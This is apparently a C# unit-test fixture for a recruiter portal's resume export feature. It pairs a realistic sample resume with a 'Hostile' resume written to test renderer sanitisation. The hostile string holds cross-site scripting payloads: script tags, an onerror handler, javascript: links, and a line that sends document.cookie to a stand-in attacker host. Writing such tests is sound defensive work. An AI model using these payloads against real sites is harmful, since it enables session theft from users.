using Microsoft.Extensions.Options;
using RecruiterPortal.Core.Exports;

namespace RecruiterPortal.Tests.Unit.Exports;

/// <summary>A realistic tailored resume in the canonical Markdown, and one written to attack the renderers.</summary>
internal static class ExportSamples
{
    public const string Name = "Priya Raman";

    public static readonly string[] Sections = ["Summary", "Skills", "Experience", "Education", "Projects", "Certifications", "Languages"];

    public const string Resume = """
        # Priya Raman
        priya.raman@example.com · +1 415 555 0142 · San Francisco, CA · linkedin.com/in/priyaraman

        ## Summary
        Backend engineer with 8 years building **payment APIs** in C# and ASP.NET Core, focused on *reliability* and clear contracts.

        ## Skills
        Key skills: C#, ASP.NET Core, SQL Server, Redis, Azure
        C#, ASP.NET Core, Entity Framework Core, SQL Server, PostgreSQL, Redis, Azure, Docker, Kubernetes, Terraform

        ## Experience

        ### Senior Software Engineer — Stripe-like Payments Inc.
        2021-03 – Present · San Francisco, CA
        - Led the ledger service rewrite in ASP.NET Core, cutting p95 latency from 420 ms to 90 ms
        - Designed idempotent payment APIs used by 3,000 merchants
        - Ran Redis-backed rate limiting for 12,000 requests per second

        ### Software Engineer — Northwind Traders
        2017-06 – 2021-02 · Seattle, WA
        - Built order processing on SQL Server and Azure Service Bus
        - Moved 40 services to Docker and Kubernetes

        ## Education

        ### B.S. in Computer Science — University of Washington
        2013 – 2017 · GPA 3.8

        ## Projects

        ### Ledgerline
        Link: [github.com/priyaraman/ledgerline](https://github.com/priyaraman/ledgerline)
        Double-entry ledger library for .NET with property-based tests.
        Technologies: C#, xUnit, PostgreSQL

        ## Certifications
        1. Microsoft Certified: Azure Developer Associate
        2. Certified Kubernetes Application Developer

        ## Languages
        - English
        - Tamil
        """;

    /// <summary>Resume text that tries raw HTML, event handlers and script URLs.</summary>
    public const string Hostile = """
        # Mallory <script>alert('x')</script>

        ## Summary
        <img src=x onerror="alert(1)"> Great engineer. <iframe src="https://evil.example"></iframe>

        <script>document.location='https://evil.example/?c='+document.cookie</script>

        ## Links
        - [portfolio](javascript:alert(document.domain))
        - [site](https://mallory.example)
        - <javascript:alert(2)>
        """;

    public static IOptions<ExportOptions> Options(string paper = "A4", string? chromium = null) => Microsoft.Extensions.Options.Options.Create(new ExportOptions
    {
        PaperSize = paper,
        ChromiumPath = chromium ?? Environment.GetEnvironmentVariable("RP_CHROMIUM") ?? "/usr/bin/chromium",
    });

    public static ExportDocument Document(string markdown = Resume) => new($"{Name} - Senior Backend Engineer", markdown);
}
